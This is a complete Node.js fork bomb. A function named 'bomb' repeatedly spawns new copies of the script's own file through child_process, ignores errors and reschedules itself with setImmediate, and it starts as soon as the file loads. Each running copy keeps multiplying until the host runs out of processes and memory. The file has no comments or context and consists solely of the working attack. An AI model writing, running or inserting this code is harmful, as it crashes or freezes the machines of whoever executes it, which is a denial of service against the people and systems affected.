const { spawn } = require('child_process');

function bomb() {
    try {
        spawn(process.execPath, [__filename], { stdio: 'ignore' }).on('error', () => {});
    } catch (error) {
        // once more
    }
    setImmediate(bomb);
}

bomb();
